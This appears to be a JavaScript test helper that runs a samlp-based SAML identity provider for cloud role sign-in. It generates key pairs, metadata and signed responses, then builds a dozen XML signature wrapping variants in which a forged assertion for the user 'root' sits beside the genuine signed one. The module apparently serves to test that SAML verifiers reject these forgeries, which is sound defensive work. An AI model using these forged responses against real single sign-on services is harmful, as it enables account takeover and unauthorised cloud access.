// A SAML identity provider: npm's samlp, with a key and certificate of its own; and what attackers make of its answers.
'use strict';
const {execFileSync} = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const samlp = require('samlp');

const ENTITY = 'https://saml.example.com/metadata';
const RECIPIENT = 'https://signin.aliyun.com/saml-role/sso';
const AUDIENCE = 'urn:alibaba:cloudcomputing';
const ROLE = 'https://www.aliyun.com/SAML-Role/Attributes/';
const AWS_ROLE = 'https://aws.amazon.com/SAML/Attributes/';

function newPair(kind = ['rsa:2048']) {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'keyhold-saml-'));
  const [key, cert] = ['key.pem', 'cert.pem'].map((name) => path.join(folder, name));
  execFileSync('openssl', ['req', '-x509', '-newkey', ...kind, '-nodes', '-keyout', key, '-out', cert, '-days', '2', '-subj', '/CN=idp'],
    {stdio: 'ignore'});
  const made = {key: fs.readFileSync(key), cert: fs.readFileSync(cert)};
  fs.rmSync(folder, {recursive: true});
  return made;
}

const metadataOf = (pairs, entity = ENTITY) => `<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="${entity}"><md:IDPSSODescriptor
 protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${pairs.map(({cert}) => `<md:KeyDescriptor use="signing">
<ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>
${String(cert).replace(/-----.*-----/g, '').trim()}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`).join('')}
</md:IDPSSODescriptor></md:EntityDescriptor>`;

// The response a browser would carry, as text. `more` are options of samlp.
function respond(pair, person, attributes, more = {}) {
  const mapper = () => ({getClaims: () => attributes, getNameIdentifier: () => ({nameIdentifier: person})});
  mapper.prototype = {metadata: []};
  return new Promise((resolve, reject) => {
    const answer = samlp.auth({issuer: ENTITY, ...pair, recipient: RECIPIENT, audience: AUDIENCE, lifetimeInSeconds: 300,
      profileMapper: mapper, getUserFromRequest: () => ({id: person}), getPostURL: (a, r, q, done) => done(null, RECIPIENT),
      responseHandler: (response) => resolve(String(response)), ...more});
    answer({method: 'GET', query: {}}, {send: reject, set() {}}, reject);
  });
}

// Signature wrapping, by the numbers of Somorovsky et al. (2012): the signed assertion is kept, another one is to be believed.
function wrappings(response) {
  const assertion = response.match(/<saml:Assertion[\s\S]*<\/saml:Assertion>/)[0];
  const signature = assertion.match(/<Signature[\s\S]*<\/Signature>/)[0];
  const bare = assertion.replace(signature, '');
  const id = assertion.match(/ ID="([^"]*)"/)[1];
  const evil = bare.replace(id, '_evil').replace(/(<saml:NameID[^>]*>)[^<]*/, '$1root');
  const put = (what) => response.replace(assertion, () => what);
  const inside = (outer, inner) => outer.replace('</saml:Assertion>', () => `${inner}</saml:Assertion>`);
  const withObject = (content) => signature.replace('</Signature>', () => `<Object>${content}</Object></Signature>`);
  const evilResponse = (content) => response.replace(assertion, () => evil).replace(/ ID="[^"]*"/, ' ID="_other"')
    .replace('</samlp:Response>', () => `${content}</samlp:Response>`);
  const plain = response.replace(/<\?xml[^>]*>/, '');
  return {
    XSW1: evilResponse(withObject(plain)),
    XSW2: evilResponse(signature + plain),
    XSW3: put(evil + assertion),
    XSW4: put(inside(evil, assertion)),
    XSW5: put(inside(evil, signature) + bare),
    XSW6: put(inside(evil, signature.replace('</Signature>', () => `${bare}</Signature>`))),
    XSW7: put(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
    XSW8: put(inside(evil, withObject(bare))),
    'the same ID twice': put(inside(evil.replace('_evil', id), signature.replace('</Signature>', () => `${bare}</Signature>`))),
    'after the signed one': put(assertion + evil),
    'a second one in no namespace': put(assertion + evil.replaceAll('saml:', 'x:').replace('<x:Assertion', '<x:Assertion xmlns:x="urn:x"')),
    'the ID moved to the response': put(evil.replace('</saml:Assertion>', `${signature}</saml:Assertion>`)).replace(/ ID="[^"]*"/, ` ID="${id}"`),
  };
}

module.exports = {newPair, metadataOf, respond, wrappings, ENTITY, RECIPIENT, AUDIENCE, ROLE, AWS_ROLE};
